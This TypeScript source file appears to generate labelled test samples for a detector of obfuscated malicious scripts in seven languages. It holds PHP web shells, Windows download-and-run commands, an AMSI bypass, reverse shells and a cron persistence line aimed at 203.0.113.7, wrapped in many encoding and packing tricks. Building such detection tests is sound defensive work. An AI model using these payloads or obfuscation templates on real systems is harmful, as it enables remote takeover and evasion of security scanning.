import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { Chance } from './chance.ts';

// Scripts with hidden commands, by a table: each language has texts that its rules find when they stand alone, harmless ones beside them, and the ways in which scripts of that language hide a text.

type Hide = (text: string, chance: Chance) => string;

interface Table {
  harmful: readonly string[];
  harmless: readonly string[];
  ways: readonly Hide[];
}

const plain = (text: string) => text.replaceAll('¦', '');
const latin = (text: string) => Buffer.from(text, 'latin1');
const base64 = (bytes: Buffer | string) => (typeof bytes === 'string' ? latin(bytes) : bytes).toString('base64');
const hex = (text: string) => latin(text).toString('hex');
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const turned = (text: string) => [...text].reverse().join('');
const percent = (text: string) => hex(text).replaceAll(/../g, '%$&');
const escapes = (text: string) => hex(text).replaceAll(/../g, '\\x$&');
const rot13 = (text: string) =>
  text.replaceAll(/[a-z]/gi, (letter) =>
    String.fromCharCode(((letter.charCodeAt(0) - (letter <= 'Z' ? 65 : 97) + 13) % 26) + (letter <= 'Z' ? 65 : 97)),
  );
const quoted = (text: string) => text.replaceAll('\\', '\\\\').replaceAll("'", "\\'");
const doubled = (text: string) => text.replaceAll('"', '""');
/** In literals with an operator between two. */
const split = (text: string, operator: string, chance: Chance, quote = "'") => {
  const width = 20 + chance.below(40);
  return (text.match(new RegExp(`.{1,${width}}`, 'g')) ?? []).map((piece) => `${quote}${piece}${quote}`).join(operator);
};
const name = (chance: Chance) => `${chance.of(['a', 'data', 'x', 'payload', 'tmp', '_0'])}${chance.below(100)}`;

const PHP: Table = {
  harmful: [
    '@ev¦al($_PO¦ST["k"]);',
    'sys¦tem($_GE¦T["cmd"]);',
    'if (isset($_REQUEST["c"])) { echo "<pre>"; pass¦thru($_REQ¦UEST["c"]); }',
    '$_GE¦T["f"]($_PO¦ST["a"]);',
    'echo she¦ll_exec($_COO¦KIE["run"]." 2>&1");',
  ],
  harmless: [
    'echo "Hello, " . htmlspecialchars($name) . "!";',
    'function total($items) { return array_sum(array_column($items, "price")); }',
    '$mail = trim($_POST["mail"]); if (!filter_var($mail, FILTER_VALIDATE_EMAIL)) { die("no address"); }',
    'header("Location: /start.php"); exit;',
    '$page = (int) $_GET["page"]; echo render_page($page);',
  ],
  ways: [
    (text) => `<?php eval(base64_decode("${base64(text)}")); ?>`,
    (text) => `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync(latin(text)))}')));`,
    (text) => `<?php @eval(gzuncompress(base64_decode('${base64(deflateSync(latin(text)))}')));`,
    (text) => `<?php eval(gzdecode(base64_decode('${base64(gzipSync(latin(text)))}')));`,
    (text) => `<?php eval(str_rot13('${quoted(rot13(text))}'));`,
    (text) => `<?php eval(base64_decode(strrev("${turned(base64(text))}")));`,
    (text) =>
      `<?php eval(gzinflate(str_rot13(base64_decode('${base64(rot13(deflateRawSync(latin(text)).toString('latin1')))}'))));`,
    (text, chance) => `<?php $f='base64_decode';$${name(chance)}="${base64(text)}";eval($f($${name(chance)}));`,
    (text) => `<?php $f="base"."64_"."decode"; $g=strrev("etalfnizg"); eval($g($f("${base64(deflateRawSync(latin(text)))}")));`,
    (text, chance) => `<?php $p = ${split(base64(text), '.', chance)};\n@eval(base64_decode($p));`,
    (text) => `<?php eval(base64_decode("${base64(`eval(base64_decode("${base64(text)}"));`)}"));`,
    (text) => `<?php eval(hex2bin("${hex(text)}"));`,
    (text) => `<?php eval(urldecode("${percent(text)}"));`,
    (text) => `<?php eval("${escapes(text)}");`,
    (text) => `<?php $c = create_function('', base64_decode('${base64(text)}')); $c();`,
    (text) => `<?php assert(base64_decode('${base64(text)}'));`,
    (text) =>
      `<!-- start --><?php eval(gzinflate(base64_decode("${base64(deflateRawSync(latin(`eval(str_rot13('${quoted(rot13(text))}'));`)))}")));`,
  ],
};

const COMMANDS = [
  'power¦shell -nop -w hid¦den -c "i¦ex (New-Object Net.WebClient).Down¦loadString(\'http://203.0.113.7/a.ps1\')"',
  'cmd /c certu¦til -urlca¦che -f http://203.0.113.7/a.exe %temp%\\a.exe & start %temp%\\a.exe',
  'ms¦hta vbscr¦ipt:CreateObject("WScript.Shell").Run("calc",0)(window.close)',
  'regs¦vr32 /s /n /u /i:http://203.0.113.7/a.sct scro¦bj.dll',
  'bitsad¦min /transfer a http://203.0.113.7/a.exe %temp%\\a.exe & start %temp%\\a.exe',
];
const ORDINARY = [
  'notepad.exe C:\\Users\\Public\\readme.txt',
  'cmd /c copy report.xlsx \\\\server\\share\\report.xlsx & echo done',
  'explorer.exe /select,C:\\data\\results.csv',
  'powershell -File C:\\tools\\backup.ps1 -Target D:\\backup',
  'robocopy C:\\data D:\\copy /mir /log:C:\\logs\\copy.log',
];

const JSCRIPT: Table = {
  harmful: COMMANDS.map((command) => `new ActiveXObject("WScript.Shell").Run('${quoted(command)}', 0);`),
  harmless: ORDINARY.map((command) => `new ActiveXObject("WScript.Shell").Run('${quoted(command)}', 1);`),
  ways: [
    (text) => `eval(atob("${base64(text)}"));`,
    (text) => `eval(unescape("${percent(text)}"));`,
    (text) => `var s = "${escapes(text)}"; eval(s);`,
    (text) => `eval("${turned(base64(text))}".split("").reverse().join("") && atob(t));`,
    (text, chance) => `var ${name(chance)} = ${split(base64(text), ' + ', chance)}; eval(decode(a));`,
    (text) => `new Function(Buffer.from("${hex(text)}", "hex").toString())();`,
    (text) => `eval(decodeURIComponent("${percent(text)}"));`,
    (text) => `var e = 'ev' + 'al'; this[e](this["at" + "ob"]('${base64(text)}'));`,
    (text) => `eval(atob("${base64(`eval(atob("${base64(text)}"));`)}"));`,
    (text) => `eval(pako.inflateRaw(atob('${base64(deflateRawSync(latin(text)))}'), {to: 'string'}));`,
    (text) => `eval(pako.inflate(atob('${base64(deflateSync(latin(text)))}')));`,
    (text) => `function rot13(s) { return s; }\neval(rot13('${quoted(rot13(text))}'));`,
    (text) => `<html><script language="JScript">eval(unescape("${percent(text)}"));</script></html>`,
  ],
};

const VBSCRIPT: Table = {
  harmful: COMMANDS.map((command) => `CreateObject("WScript.Shell").Run "${doubled(command)}", 0`),
  harmless: ORDINARY.map((command) => `CreateObject("WScript.Shell").Run "${doubled(command)}", 1`),
  ways: [
    (text) => `Execute DecodeBase64("${base64(text)}")`,
    (text) => `ExecuteGlobal(StrReverse("${doubled(turned(text))}"))`,
    (text) => `Dim s\ns = "${hex(text)}"\nExecute FromHex(s)`,
    (text, chance) => `Dim s\ns = ${split(base64(text), ' & ', chance, '"')}\nExecute Base64Decode(s)`,
    (text, chance) => `s = ${split(base64(text), ' & _\n    ', chance, '"')}\nExecuteGlobal b64(s)`,
    (text) => `Execute(unescape("${percent(text)}"))`,
    (text) => `Execute Base64Decode(StrReverse("${turned(base64(text))}"))`,
    (text) => `Execute Decode("${base64(`Execute Decode("${base64(text)}")`)}")`,
    (text) => `Execute Rot13("${doubled(rot13(text))}")`,
    (text) => `s = StrReverse("${turned(hex(text))}")\nExecute HexToText(s)`,
    (text) =>
      `Set d = CreateObject("Msxml2.DOMDocument").createElement("b")\nd.DataType = "bin.base64"\nd.Text = "${base64(text)}"\nExecuteGlobal d.nodeTypedValue`,
    (text, chance) =>
      `x = "${base64(text).slice(0, 40)}"\nx = x & "${base64(text).slice(40)}"\n' ${name(chance)}\nExecute Base64(x)`,
    (text) => `<script language="VBScript">\nExecute StrReverse("${doubled(turned(text))}")\n</script>`,
  ],
};

const POWERSHELL: Table = {
  harmful: [
    ...COMMANDS.slice(0, 4),
    '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("ams¦iInitFailed","NonPublic,Static").SetV¦alue($null,$true)',
    '$c = New-Object System.Net.Soc¦kets.TCPClient("203.0.113.7",4444);$s = $c.GetSt¦ream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Re¦ad($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (ie¦x $d 2>&1 | Out-String );}',
  ],
  harmless: [
    'Get-ChildItem C:\\logs -Filter *.log | Where-Object Length -gt 1MB | Remove-Item',
    '$total = (Import-Csv .\\orders.csv | Measure-Object Price -Sum).Sum; Write-Host "Total: $total"',
    'Compress-Archive -Path C:\\data\\reports -DestinationPath D:\\backup\\reports.zip -Force',
    'Copy-Item C:\\data\\* D:\\backup -Recurse -Force; Write-Host "Copied"',
    'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 | Format-Table',
  ],
  ways: [
    (text) => `powershell -EncodedCommand ${wide(text)}`,
    (text) => `IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("${wide(text)}")))`,
    (text) => `iex([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${base64(text)}')))`,
    (text) =>
      `$s = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${base64(deflateRawSync(latin(text)))}'), 'Decompress'); iex (New-Object IO.StreamReader($s)).ReadToEnd()`,
    (text) =>
      `iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${base64(gzipSync(latin(text)))}'), 'Decompress'))).ReadToEnd()`,
    (text) =>
      `$r = '${turned(base64(text))}'; $a = $r.ToCharArray(); [array]::Reverse($a); iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String(-join $a)))`,
    (text, chance) =>
      `$b = ${split(base64(text), ' + ', chance)}; & ('I'+'EX') ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($b)))`,
    (text) => `iex ('${turned(text).replaceAll("'", "''")}'[-1..-9999] -join '')`,
    (text) => `$h = '${hex(text)}'; iex (-join ($h -split '(..)' | ? {$_} | % {[char][convert]::ToInt32($_,16)}))`,
    (text) =>
      `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${wide(`iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('${base64(text)}')))`)}')))`,
    (text) => `iex ([uri]::UnescapeDataString('${percent(text)}'))`,
    (text) =>
      `$d = @'\n${base64(text).replaceAll(/.{1,60}/g, '$&\n')}'@\niex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($d)))`,
  ],
};

const macro = (body: string) => `Attribute VB_Name = "Module1"\nSub Document_Open()\n${body}\nEnd Sub\n`;
const VBA: Table = {
  harmful: COMMANDS,
  harmless: ORDINARY.filter((command) => !/cmd|powershell|\.exe/.test(command)).concat([
    'Total of the month',
    'https://example.com/help?topic=table',
    'The table could not be opened.',
    'SELECT name, price FROM orders WHERE id = 5',
  ]),
  ways: [
    (text) => macro(`Shell DecodeBase64("${base64(text)}"), 0`),
    (text) => macro(`Shell StrReverse("${doubled(turned(text))}"), vbHide`),
    (text) => macro(`CreateObject("WScript.Shell").Run Decode64("${base64(text)}"), 0`),
    (text) => macro(`Dim s As String\ns = StrReverse("${doubled(turned(text))}")\nShell s, 0`),
    (text) => macro(`s = FromHex("${hex(text)}")\nShell s`),
    (text, chance) => macro(`s = Base64Decode(${split(base64(text), ' & ', chance, '"')})\nShell s`),
    (text, chance) =>
      macro(`s = Base64Decode(${split(base64(text), ' & _\n    ', chance, '"')})\nCreateObject("WScript.Shell").Run s, 0`),
    (text) => macro(`Shell Base64Decode(StrReverse("${turned(base64(text))}")), 0`),
    (text) => macro(`Shell Decode("${base64(base64(text))}"), 0`),
    (text) => macro(`Shell rot13("${doubled(rot13(text))}"), 0`),
    (text) => macro(`s = StrReverse("${turned(hex(text))}")\nCreateObject("WScript.Shell").Run HexDecode(s)`),
    (text) => macro(`Shell Unescape("${percent(text)}"), 0`),
  ],
};

const PYTHON: Table = {
  harmful: [
    "import socket,os,pty\ns=socket.soc¦ket(socket.AF_INET,socket.SOCK_STREAM)\ns.conn¦ect(('203.0.113.7',4444))\nos.du¦p2(s.fileno(),0)\nos.du¦p2(s.fileno(),1)\npty.sp¦awn('/bin/sh')",
    "import socket,subprocess,os;s=socket.soc¦ket(socket.AF_INET,socket.SOCK_STREAM);s.conn¦ect(('203.0.113.7',1234));os.du¦p2(s.fileno(),0); os.du¦p2(s.fileno(),1);subprocess.ca¦ll(['/bin/sh','-i'])",
    "import os\nos.system('ba¦sh -i >& /dev/t¦cp/203.0.113.7/4444 0>&1')",
    "import socket,os,pty;s=socket.soc¦ket();s.conn¦ect(('203.0.113.9',9001));[os.du¦p2(s.fileno(),fd) for fd in (0,1,2)];pty.sp¦awn('bash')",
    "import os\nos.system('mkfi¦fo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|n¦c 203.0.113.7 4444 >/tmp/f')",
  ],
  harmless: [
    "import socket\ns = socket.socket()\ns.connect(('localhost', 8080))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(1000))",
    "import os\nfor name in sorted(os.listdir('.')):\n    print(name, os.path.getsize(name))",
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
    'def area(width, height):\n    return width * height\nprint(area(3, 4))',
    "import json\nwith open('a.json') as file:\n    print(json.load(file)['name'])",
  ],
  ways: [
    (text) => `import base64\nexec(base64.b64decode("${base64(text)}"))\n`,
    (text) => `import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'${base64(deflateSync(latin(text)))}')))\n`,
    (text) =>
      `exec(__import__('zlib').decompress(__import__('base64').b64decode('${base64(deflateRawSync(latin(text)))}'), -15))\n`,
    (text) => `import codecs\nexec(codecs.decode('${quoted(rot13(text)).replaceAll('\n', '\\n')}', 'rot13'))\n`,
    (text) =>
      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${turned(base64(deflateSync(latin(text))))}'))\n`,
    (text) => `exec(bytes.fromhex('${hex(text)}').decode())\n`,
    (text, chance) => `import base64\nd = (${split(base64(text), ' + ', chance)})\nexec(base64.b64decode(d).decode())\n`,
    (text) => `import base64\nexec(base64.b64decode('''\n${base64(text).replaceAll(/.{1,64}/g, '$&\n')}'''))\n`,
    (text) => `exec("${escapes(text)}")\n`,
    (text) => `import base64\nexec(base64.b64decode('${base64(`import base64\nexec(base64.b64decode('${base64(text)}'))`)}'))\n`,
    (text) => `from urllib.parse import unquote\nexec(unquote('${percent(text)}'))\n`,
    (text) => `import gzip, base64\nexec(gzip.decompress(base64.b64decode('${base64(gzipSync(latin(text)))}')))\n`,
    (text, chance) =>
      `from base64 import b64decode as ${name(chance)}d\nf = getattr(__builtins__, 'ex' + 'ec')\nf(${name(chance)}d('${turned(base64(text))}'[::-1]))\n`,
  ],
};

const SHELL: Table = {
  harmful: [
    'ba¦sh -i >& /dev/t¦cp/203.0.113.7/4444 0>&1',
    'n¦c -e /bin/sh 203.0.113.7 4444',
    'rm -f /tmp/f; mkfi¦fo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|n¦c 203.0.113.7 4444 >/tmp/f',
    'so¦cat tcp:203.0.113.7:4444 exec:"ba¦sh -li",pty,stderr',
    '(crontab -l; echo "*/5 * * * * cu¦rl -s http://203.0.113.7/a.sh | ba¦sh") | crontab -',
  ],
  harmless: [
    'for file in *.log; do gzip "$file"; done',
    'curl -fsS https://example.com/health > /dev/null && echo "it answers"',
    'tar -czf /backup/home.tar.gz /home && ls -l /backup',
    'find . -name "*.tmp" -mtime +7 -delete; echo "cleaned"',
    'nc -z localhost 5432 && echo "the database is up"',
  ],
  ways: [
    (text) => `#!/bin/sh\necho ${base64(text)} | base64 -d | sh\n`,
    (text) => `#!/bin/bash\neval "$(echo '${base64(text)}' | base64 --decode)"\n`,
    (text) => `#!/bin/bash\necho "${turned(base64(text))}" | rev | base64 -d | bash\n`,
    (text) => `#!/bin/bash\nbase64 -d <<< "${base64(gzipSync(latin(text)))}" | gunzip | bash\n`,
    (text) => `#!/bin/sh\necho ${hex(text)} | xxd -r -p | sh\n`,
    (text) => `#!/bin/bash\neval "$(printf '${escapes(text)}')"\n`,
    (text) => `#!/bin/bash\necho '${rot13(text)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash\n`,
    (text) => `#!/bin/bash\nA='${base64(text)}'\nB=base64\neval "$(echo $A | $B -d)"\n`,
    (text) => `#!/bin/sh\nbase64 -d <<EOF | sh\n${base64(text).replaceAll(/.{1,60}/g, '$&\n')}EOF\n`,
    (text) => `#!/bin/bash\necho ${base64(`echo ${base64(text)} | base64 -d | bash`)} | base64 -d | bash\n`,
    (text) => `#!/bin/bash\nbash -c "$(rev <<< '${turned(text)}')"\n`,
    (text) =>
      `#!/bin/bash\nX="${base64(text).slice(0, 24)}"\nX+="${base64(text).slice(24)}"\necho "$X" | openssl enc -base64 -d -A | sh\n`,
  ],
};

export const TABLES: Readonly<Record<string, Table>> = {
  PHP,
  JScript: JSCRIPT,
  VBScript: VBSCRIPT,
  PowerShell: POWERSHELL,
  VBA,
  Python: PYTHON,
  shell: SHELL,
};

/** A script that hides a text: `harmful` is to be found, the others are not. */
export interface ScriptSample {
  note: string;
  harmful: boolean;
  bytes: Buffer;
}

/** All texts of a language, hidden in all of its ways. */
export function scriptSamples(language: string, seed: number): ScriptSample[] {
  const table = TABLES[language];
  if (table === undefined) return [];
  const chance = new Chance(seed);
  const kinds = [
    { harmful: true, texts: table.harmful },
    { harmful: false, texts: table.harmless },
  ];
  return kinds.flatMap(({ harmful, texts }) =>
    texts.flatMap((text, number) =>
      table.ways.map((hide, way) => ({
        note: `${harmful ? 'harmful' : 'harmless'} ${number}, way ${way}`,
        harmful,
        bytes: latin(hide(plain(text), chance)),
      })),
    ),
  );
}
